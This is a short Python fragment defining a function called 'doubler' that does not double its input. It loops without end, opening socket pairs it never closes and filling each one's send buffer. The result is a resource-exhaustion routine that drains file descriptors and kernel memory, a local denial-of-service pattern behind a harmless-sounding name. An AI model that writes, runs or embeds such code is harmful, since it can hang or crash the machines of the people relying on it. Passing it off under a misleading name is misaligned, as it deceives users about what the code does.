import os
import socket

def doubler(n):
    held = []
    while True:
        held.append(socket.socketpair())
        held[-1][0].setblocking(False)
        try:
            while True:
                held[-1][0].send(b"x" * 65536)
        except BlockingIOError:
            pass
